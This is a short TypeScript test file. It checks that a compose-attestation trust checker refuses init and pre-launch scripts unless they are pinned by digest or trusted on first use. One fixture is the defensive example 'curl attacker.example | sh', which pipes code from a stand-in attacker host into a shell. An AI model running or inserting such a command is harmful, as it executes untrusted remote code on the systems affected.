/** The measured app-compose: what runs code besides the compose file is refused unless it is trusted. */
import { expect, test } from "vitest";
import { sha256Hex, type AppCompose } from "../../../src/core/compose-hash.ts";
import { checkCompose, type ExpectedCompose } from "../../../src/trust/check-compose.ts";
import { CheckList } from "../../../src/trust/check-list.ts";
import { amendTrust, BUILT_IN_TRUST } from "../../../src/trust/read-trust.ts";
import { findUntrustedCode } from "../../../src/trust/runs-code.ts";

const INIT = { init_script: "curl attacker.example | sh\n" };
const SCRIPT = { pre_launch_script: "docker login\n" };
const DIGEST = sha256Hex(SCRIPT.pre_launch_script);

function scriptCheck(
  appCompose: AppCompose,
  expected: ExpectedCompose = {},
  trust = BUILT_IN_TRUST,
): unknown {
  const list = new CheckList();
  const text = JSON.stringify(appCompose);
  checkCompose(text, sha256Hex(text), { trust, expected, list });
  const [, { result, code } = { result: "missing", code: null }] = list.checks;
  return code === null ? result : `${result} ${code}`;
}

test("a field that may run code is refused unless it is pinned", () => {
  expect(scriptCheck(INIT)).toBe("failed attest-compose");
  expect(scriptCheck(INIT, { firstUse: true })).toBe("failed attest-compose");
  const [untrusted] = findUntrustedCode(INIT, BUILT_IN_TRUST).fields;
  const pin = { name: "init_script", sha256: untrusted?.sha256 ?? "", note: "" };
  const pinned = { ...BUILT_IN_TRUST, app_compose_fields: [pin] };
  expect(scriptCheck(INIT, {}, pinned)).toBe("passed");
});

test("a pre-launch script is trusted on first use, where it was before, or by its digest", () => {
  expect(scriptCheck(SCRIPT)).toBe("failed attest-compose");
  expect(scriptCheck(SCRIPT, { firstUse: true })).toBe("warning attest-compose");
  expect(scriptCheck(SCRIPT, { trustedScripts: new Set([DIGEST]) })).toBe("passed");
  const flags = { acceptTcb: [], trustScript: [DIGEST], seenEvaluation: 0 };
  expect(scriptCheck(SCRIPT, {}, amendTrust(BUILT_IN_TRUST, flags))).toBe("passed");
});
